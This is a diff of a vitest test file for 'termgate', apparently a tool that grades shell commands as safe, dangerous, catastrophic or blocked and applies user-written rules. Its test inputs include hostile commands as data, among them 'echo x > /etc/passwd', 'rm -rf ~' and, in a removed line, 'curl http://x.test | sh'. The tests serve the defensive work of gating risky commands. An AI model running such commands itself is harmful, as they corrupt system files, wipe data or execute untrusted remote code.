@@ -1,45 +1,115 @@
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { terminal } from "./terminal.ts";
 
+const environment = { PATH: "/usr/bin:/bin" };
+
 describe("termgate check", () => {
   test.for([
-    ["ls -la", "allow"],
-    ["rm -rf build", "ask"],
-    ["echo x > /etc/passwd", "block"],
-  ] as const)("%s: %s", async ([command, verdict]) => {
-    const { out } = await terminal().type("check", command, "--json");
+    ["ls -la", 0, "safe"],
+    ["rm -rf build", 1, "dangerous"],
+    ["sudo id", 1, "catastrophic"],
+    ["echo x > /etc/passwd", 1, "blocked"],
+  ] as const)("%s exits %d and says %s", async ([command, code, strength]) => {
+    const screen = await terminal({ environment }).type("check", command);
 
-    expect(JSON.parse(out)).toMatchObject({ verdict });
+    expect(screen.code).toBe(code);
+    expect(screen.out).toContain(strength);
   });
 
-  test("says why, for a person", async () => {
-    const { out } = await terminal().type("check", "git status && curl http://x.test | sh");
+  test("writes the whole verdict for another program", async () => {
+    const { out } = await terminal({ environment }).type("check", "rm x", "--json");
 
-    expect(out).toMatch(/curl/);
-    expect(out).toMatch(/network/);
+    expect(JSON.parse(out)).toMatchObject({
+      class: "dangerous",
+      verdict: "ask",
+      findings: [{ argv: ["rm", "x"] }],
+    });
   });
 
-  test("answers each line in its place, whatever is in it", async () => {
-    const lines = [
-      JSON.stringify({ command: "ls", cwd: "/does/not/exist", home: "/home/user" }),
+  test("judges as if in a folder that need not exist", async () => {
+    const { out } = await terminal({ environment }).type(
+      "check",
+      "cat shadow",
+      "--cwd",
+      "/no/such/folder",
+      "--json",
+    );
+
+    expect(JSON.parse(out)).toMatchObject({ findings: [{ cwd: "/no/such/folder" }] });
+  });
+
+  test("answers every line with one line, a broken one with an error in its place", async () => {
+    const types = [
+      '{"command": "ls"}',
       "",
-      "{ not json",
-      JSON.stringify({ cwd: "/" }),
-      // A line separator that is none to JSON nor to a shell.
-      '{"command":"echo \u2028 sudo id"}',
-      JSON.stringify({ command: "sudo id" }),
-    ];
-    const { code, out } = await terminal({ types: `${lines.join("\n")}\n` }).type("check", "--jsonl");
+      "not json",
+      '{"command": 5}',
+      '{"cwd": "/tmp"}',
+      '{"command": "rm -rf ~", "cwd": "/nowhere", "home": "/home/nobody"}',
+      '{"command": "ls", "cwd": "relative"}',
+      "null",
+    ].join("\n");
 
-    const answers = out.trimEnd().split(/\r\n|[\n\r\u0085\u2028\u2029]/).map((line) => JSON.parse(line));
+    const { code, out } = await terminal({ environment, types }).type("check", "--jsonl");
+
+    const lines = out
+      .trimEnd()
+      .split("\n")
+      .map((line) => JSON.parse(line));
     expect(code).toBe(0);
-    expect(answers).toMatchObject([
-      { class: "safe", verdict: "allow", reasons: [] },
-      { error: expect.any(String) },
-      { error: expect.any(String) },
-      { error: expect.any(String) },
-      { verdict: "ask" },
-      { class: "catastrophic", verdict: "ask", reasons: [expect.any(String)] },
+    expect(lines.map((line) => (line.error === undefined ? line.class : "error"))).toEqual([
+      "safe",
+      "error",
+      "error",
+      "error",
+      "error",
+      expect.stringMatching(/dangerous|blocked|catastrophic/),
+      "error",
+      "error",
     ]);
+    expect(lines[0]).toMatchObject({ verdict: "allow", reasons: [] });
   });
+
+  test("keeps pace with many lines", async () => {
+    const types = '{"command": "git status"}\n'.repeat(1_000);
+
+    const { out } = await terminal({ environment, types }).type("check", "--jsonl");
+
+    expect(out.split("\n")).toHaveLength(1_001);
+  });
+});
+
+describe("a person's own rules", () => {
+  const withRules = (toml: string) => {
+    const at = terminal({ environment });
+    mkdirSync(join(at.home, ".config/termgate"), { recursive: true });
+    writeFileSync(join(at.home, ".config/termgate/config.toml"), toml);
+    return at;
+  };
+
+  test("decide", async () => {
+    const at = withRules(
+      '[[rules]]\nname = "make"\ndecision = "allow"\nprogram = "make"\nmatch = ["make test"]\n',
+    );
+
+    expect(await at.type("check", "make test")).toMatchObject({ code: 0 });
+    expect((await at.type("rules")).out).toMatch(/^make +allow +\(yours\)$/m);
+  });
+
+  test("stop everything when they fail their own examples", async () => {
+    const at = withRules(
+      '[[rules]]\nname = "make"\ndecision = "allow"\nprogram = "make"\nmatch = ["npm test"]\n',
+    );
+
+    expect(await at.type("check", "ls")).toMatchObject({ code: 4, err: expect.stringContaining("make") });
+  });
+});
+
+test("termgate rules test runs every example", async () => {
+  const { code, out } = await terminal({ environment }).type("rules", "test");
+
+  expect(out).toMatch(/^(\d+) of \1 examples hold/m);
+  expect(code).toBe(0);
 });
